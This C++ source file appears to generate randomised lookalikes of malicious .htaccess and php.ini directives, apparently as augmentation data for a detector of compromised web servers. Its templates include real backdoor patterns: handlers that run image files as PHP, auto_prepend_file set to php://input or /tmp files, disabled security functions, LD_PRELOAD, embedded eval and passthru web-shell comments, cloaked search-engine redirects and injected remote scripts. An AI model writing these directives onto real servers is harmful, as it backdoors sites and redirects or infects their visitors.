#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

// Directives that run pictures as scripts, put code before every page, or send visitors elsewhere.
namespace fovea::augment {
namespace {

const Makers& HtaccessMakers() {
  static const Makers makers = {
      {"ext",
       [](Junk& j) {
         return j.Pick({".jpg", ".gif", ".png", ".ico", ".txt", ".jpeg", ".log", ".css", ".pdf",
                        ".svg", ".~letters~", ".dat", ".inc", ".xml", ".bak"});
       }},
      {"type",
       [](Junk& j) {
         return j.Pick({"application/x-httpd-php", "application/x-httpd-php", "php5-script",
                        "php-script", "php7-script", "application/x-httpd-php5",
                        "application/x-httpd-php74", "application/x-httpd-alt-php", "cgi-script",
                        "server-parsed", "x-httpd-php",
                        "proxy:unix:/run/php/php-fpm.sock|fcgi://localhost"});
       }},
      {"bad",
       [](Junk& j) {
         return j.Pick({"~path~~ext~", "/tmp/~letters~", "/tmp/.~word~", "/dev/shm/~letters~.php",
                        "~path~.ico", "/var/www/~word~/wp-content/uploads/~letters~~ext~",
                        "\"~path~~ext~\"", "php://input", "~url.txt~", "images/~word~~ext~",
                        "wp-includes/.~letters~~ext~", "\"data:;base64,~b64s~\"",
                        "/home/~word~/public_html/.~word~~ext~", "../~letters~~ext~", ".~word~",
                        "'/var/tmp/~letters~~ext~'", "auto.~letters~.php", "/proc/self/environ"});
       }},
      {"pend",
       [](Junk& j) {
         return j.Pick({"auto_prepend_file", "auto_prepend_file", "auto_append_file"});
       }},
      {"engine",
       [](Junk& j) {
         return j.Pick({"google|bing|yahoo|ask|aol|msn|yandex|baidu", "google",
                        "(google|yahoo|bing)", "googlebot|bingbot", "facebook|twitter|google",
                        "google|yandex|mail.ru|rambler", "search.yahoo", "duckduckgo|google"});
       }},
      {"agent",
       [](Junk& j) {
         return j.Pick({"android|blackberry|iphone|ipod|iemobile|opera\\ mini|palmos|webos",
                        "acs|alav|alca|amoi|audi|aste|avan", "googlebot|bingbot|slurp",
                        "(android|midp|j2me|symbian|series\\ 60|windows\\ mobile)",
                        "android|iphone", "Windows", "MSIE|Trident", "~word~bot"});
       }},
      {"to",
       [](Junk& j) {
         return j.Pick({"~url~", "~url.php~", "http://~host~/~letters~",
                        "http://~ip~/~word~.php?~key~=%{HTTP_HOST}", "https://~host~/?~key~=$1",
                        "http://~host~/in.cgi?~small~",
                        "http://~host~/search.php?q=%{QUERY_STRING}"});
       }},
      {"flags",
       [](Junk& j) {
         return j.Pick(
             {"[R=302,L]", "[R=301,L]", "[L,R]", "[R,L]", "[R=302,NC,L]", "[P,L]", "[R=307,L]"});
       }},
      {"pat",
       [](Junk& j) {
         return j.Pick({"^(.*)$", ".*", "^.*$", "^", "^(.+)$", "^index\\.php$", "(.*)"});
       }},
      {"on",
       [](Junk& j) {
         return j.Pick(
             {"RewriteEngine On\n", "RewriteEngine on\n", "", "RewriteEngine on\nRewriteBase /\n"});
       }},
      {"blank", [](Junk& j) {
         return j.Chance(0.25)
                    ? std::string(static_cast<size_t>(j.Int(20, 300)), j.Chance(0.5) ? '\n' : ' ')
                    : std::string();
       }}};
  return makers;
}

constexpr const char* kHtaccess[] = {
    // What runs as a script.
    "AddHandler ~type~ ~ext~", "AddType ~type~ ~ext~", "AddType ~type~ ~ext~ ~ext~ ~ext~",
    "AddHandler ~type~ ~ext~ ~ext~", "~blank~AddType ~type~ ~ext~",
    "<FilesMatch \"\\~ext~$\">\nSetHandler ~type~\n</FilesMatch>",
    "<FilesMatch \"~word~\">\n  SetHandler ~type~\n</FilesMatch>",
    "<Files ~word~~ext~>\nSetHandler ~type~\n</Files>",
    "<Files ~~ \"\\~ext~$\">\nForceType ~type~\nSetHandler ~type~\n</Files>",
    "<Files \"~letters~~ext~\">\nForceType ~type~\n</Files>", "SetHandler ~type~",
    "ForceType ~type~",
    "<FilesMatch \"^(~word~|~letters~)~ext~$\">\nOrder allow,deny\nAllow from all\n"
    "SetHandler ~type~\n</FilesMatch>",
    "Options +ExecCGI\nAddHandler cgi-script ~ext~",
    "Options +ExecCGI\nAddHandler cgi-script .sh .pl ~ext~ .~letters~",
    "AddType text/html .shtml\nAddHandler server-parsed .shtml ~ext~\nOptions +Includes",
    "Action ~word~ /cgi-bin/~word~.php\n"
    "AddHandler ~word~ ~ext~",
    "<IfModule mod_php5.c>\nphp_flag engine on\nAddType ~type~ ~ext~\n</IfModule>",
    "<Files ~~ \"^\\.ht\">\nOrder allow,deny\nAllow "
    "from all\n</Files>\nAddType ~type~ .htaccess\n# <?php passthru($_GET['~key~']); ?>",
    "<Files ~~ \"^\\.ht\">\nRequire all granted\n</Files>\nSetHandler ~type~\n#<?php "
    "eval($_POST[~key~]);?>",
    "RemoveHandler .php\nAddType ~type~ ~ext~", "php_flag engine on\nSetHandler ~type~",
    // Before every page.
    "php_value ~pend~ ~bad~", "php_value ~pend~ ~bad~", "php_value ~pend~ \"~path~~ext~\"",
    "~pend~=~bad~", "~pend~ = ~bad~", "~pend~ = ~bad~\n~blank~", "~blank~php_value ~pend~ ~bad~",
    "php_admin_value ~pend~ ~bad~",
    "<IfModule mod_php7.c>\n  php_value "
    "~pend~ ~bad~\n</IfModule>",
    "<FilesMatch \"\\.php$\">\nphp_value ~pend~ ~bad~\n</FilesMatch>",
    "php_flag allow_url_include on\nphp_value ~pend~ ~bad~",
    "allow_url_fopen = On\nallow_url_include = On\n~pend~ = ~bad~",
    "allow_url_include = On\n"
    "auto_prepend_file = php://input",
    "php_value auto_prepend_file .htaccess\n#<?php @eval($_REQUEST['~key~']); ?>",
    "disable_functions =\nopen_basedir =\nsafe_mode = "
    "Off\n~pend~ = ~bad~",
    "php_value safe_mode off\nphp_value disable_functions NULL\nphp_flag "
    "engine on",
    "SetEnv LD_PRELOAD ~path~.so", "SetEnv PHPRC /tmp/~letters~/php.ini", "extension=~path~.so",
    "extension = /tmp/.~word~.so", "zend_extension=/tmp/~letters~.so",
    "php_value error_log ~path.php~\nphp_value include_path \"<?php eval($_GET[~key~]); "
    "__halt_compiler();\"",
    "php_value mail.log ~path.php~", "sendmail_path = \"/tmp/.~word~\"",
    "session.save_path = \"~path~\"\n~pend~ = \"~bad~\"",
    // Elsewhere.
    "~on~RewriteCond %{HTTP_REFERER} ~engine~ [NC]\nRewriteRule ~pat~ ~to~ ~flags~",
    "~on~RewriteCond %{HTTP_REFERER} .*(~engine~).* [NC,OR]\nRewriteCond %{HTTP_REFERER} "
    "~word~\nRewriteRule ~pat~ ~to~ ~flags~",
    "~on~RewriteCond %{HTTP_USER_AGENT} ~agent~ [NC]\nRewriteRule ~pat~ ~to~ ~flags~",
    "~on~RewriteCond %{HTTP_USER_AGENT} ~agent~ [NC,OR]\nRewriteCond %{HTTP_ACCEPT} "
    "\"text/vnd.wap.wml|application/vnd.wap.xhtml+xml\" [NC]\n"
    "RewriteRule ~pat~ ~to~ ~flags~",
    "~on~RewriteCond %{HTTP_USER_AGENT} (~engine~) [NC]\nRewriteCond %{REQUEST_URI} ^/~word~/ "
    "[NC]\nRewriteRule ~pat~ /~word~/~letters~.php?u=$1 [L]",
    "~on~RewriteCond %{HTTP_COOKIE} !^.*~letters~=~small~.*$ [NC]\nRewriteCond %{HTTP_REFERER} "
    "(~engine~) [NC]\nRewriteRule ~pat~ ~to~ ~flags~",
    "~blank~RewriteEngine On\nRewriteCond %{HTTP_REFERER} ^http://[w.]*([^/]+)\nRewriteCond "
    "%{HTTP_HOST}/%1 !^[w.]*([^/]+)/\\1$ [NC]\nRewriteRule "
    "~pat~ ~to~ ~flags~",
    "RewriteRule ^([A-Za-z0-9-]+)\\.html$ ~letters~.php?~key~=$1 [L]\nRewriteCond "
    "%{HTTP_USER_AGENT} (~engine~) "
    "[NC]\nRewriteRule ~pat~ ~letters~.php [L]",
    "ErrorDocument 404 ~to~",
    "ErrorDocument 403 ~url~\nErrorDocument 404 ~url~\nErrorDocument 500 ~url~",
    "ErrorDocument 400 "
    "http://~host~/~word~.php\nErrorDocument 401 http://~host~/~word~.php",
    "DirectoryIndex .~word~~ext~\nSetHandler ~type~",
    "Header append Set-Cookie \"~letters~=~hexs~\"\nHeader always set Refresh \"0;url=~url~\"",
    "SetEnvIfNoCase User-Agent \"~engine~\" ~letters0~\n<IfModule mod_rewrite.c>\nRewriteCond "
    "%{ENV:~letters0~} 1\nRewriteRule ~pat~ ~to~ ~flags~\n"
    "</IfModule>",
    "<FilesMatch \"\\.(php|phtml|php5|suspected)$\">\nOrder allow,deny\nDeny from "
    "all\n</FilesMatch>\n<FilesMatch \"^(~letters~|~word~|~letters~)\\.php$\">"
    "\nOrder allow,deny\nAllow from all\n</FilesMatch>",
    "<FilesMatch \".*\\.(py|exe|phtml|php|PHP|Php|PHp|pHp|suspected)$\">\nOrder Allow,Deny\nDeny "
    "from all\n</FilesMatch>\n<FilesMatch "
    "\"^(index.php|~letters~.php|~word~~small~.php)$\">\nOrder Allow,Deny\nAllow from "
    "all\n</FilesMatch>",
    "php_value output_handler ~letters~\nphp_value ~pend~ ~bad~",
    "Substitute \"s|</body>|<script src=//~host~/~word~.js></script></body>|i\"",
    "AddOutputFilterByType SUBSTITUTE text/html\nSubstitute \"s#</head>#<script "
    "src='~url.js~'></script></head>#ni\"",
    "Options All\nSatisfy Any\nAddType ~type~ ~ext~",
    "SecFilterEngine Off\nSecFilterScanPOST Off\nAddHandler ~type~ ~ext~"};

}  // namespace

std::string HtaccessLookalike(Junk& junk) { return FillAny(kHtaccess, HtaccessMakers(), junk); }

}  // namespace fovea::augment
